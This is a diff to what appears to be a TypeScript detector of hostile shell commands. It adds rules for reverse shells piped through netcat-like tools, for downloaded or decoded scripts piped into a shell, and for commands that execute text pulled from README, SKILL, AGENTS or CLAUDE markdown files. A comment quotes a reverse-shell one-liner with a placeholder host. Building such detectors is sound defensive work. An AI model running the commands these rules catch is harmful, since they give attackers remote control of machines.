@@ -3,7 +3,7 @@ import type { Lists } from "../lists.ts";
 import { carriedByNames, dumpsEnvironment, keptCommands, sendingSecrets } from "./carried.ts";
 import { decodedOf } from "./decode.ts";
 import type { Deed } from "./deed.ts";
-import { harmsOf } from "./harm.ts";
+import { harmsOf, takesOwnText } from "./harm.ts";
 import type { Command } from "./lex.ts";
 import { program } from "./program.ts";
 
@@ -25,8 +25,21 @@ const URL_WORD = /^["'(]*(?:(?:https?|ftp):\/\/|www\.)[^\s"')]+/i;
 const RUNS_INPUT = new Set(["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "source", ".", "iex", "invoke-expression", "pwsh", "powershell"]);
 const INTERPRETERS = new Set(["python", "python2", "python3", "node", "perl", "ruby", "php", "deno", "bun", "osascript"]);
 
+/** `mkfifo p; cat p | sh -i | nc HOST PORT`: what a shell says goes out, what comes back it does. */
+function shellOverNet(pipeline: readonly Command[]): Deed[] {
+  const shell = pipeline.findIndex((command) => RUNS_INPUT.has(program(command).name));
+  const net = pipeline.findIndex(
+    (command, i) => i > shell && /^(?:nc|ncat|netcat|telnet|openssl)$/.test(program(command).name) && program(command).rest.length >= 2,
+  );
+  const [first, last] = [pipeline[0], pipeline[net]];
+  if (shell < 0 || net < 0 || !first || !last) return [];
+  return [{ name: "reverse-shell", start: first.start, end: last.end, detail: program(last).rest.join(" "), traits: [] }];
+}
+
 /** `curl URL | sh`, `echo … | base64 -d | sh`. */
 function pipedDeeds(pipeline: readonly Command[], lists: Lists): Deed[] {
+  const net = shellOverNet(pipeline);
+  if (net.length > 0) return net;
   const runner = pipeline.findLastIndex((command, i) => i > 0 && takesProgram(command));
   if (runner < 1) return [];
   const before = pipeline.slice(0, runner);
@@ -44,6 +57,8 @@ function pipedDeeds(pipeline: readonly Command[], lists: Lists): Deed[] {
         ...(decoded.text ? { inner: { text: decoded.text, layer: decoded.layer } } : {}),
       },
     ];
+  const own = before.find(takesOwnText);
+  if (own) return [{ name: "runs-document", start, end, detail: own.words.join(" "), traits: [] }];
   const fetch = before.find((command) => isDownload(command, lists));
   return fetch ? [download("download-run", fetch, start, end, lists)] : [];
 }
@@ -56,6 +71,8 @@ function substitutedDeeds(command: Command, lists: Lists): Deed[] {
   const text = rest.join(" ");
   const body = /\$\((.*)/s.exec(text)?.[1];
   if (body === undefined) return scriptArgument(command, name, rest, lists);
+  if (/\b(?:sed|awk|grep|cat|head|tail)\s.{0,300}\b(?:SKILL|README|AGENTS|CLAUDE)\.md\b/s.test(body))
+    return [{ name: "runs-document", start: command.start, end: command.end, detail: body.slice(0, 300), traits: [] }];
   const fetcher = new RegExp(`(?:^|[\\s(|;&])(?:${[...lists.set("downloaders")].map((each) => RegExp.escape(each)).join("|")})(?:\\.exe)?\\s`, "i");
   if (fetcher.test(` ${body}`)) {
     const url = /(?:https?|ftp):\/\/[^\s"')|]+/i.exec(body)?.[0] ?? "";
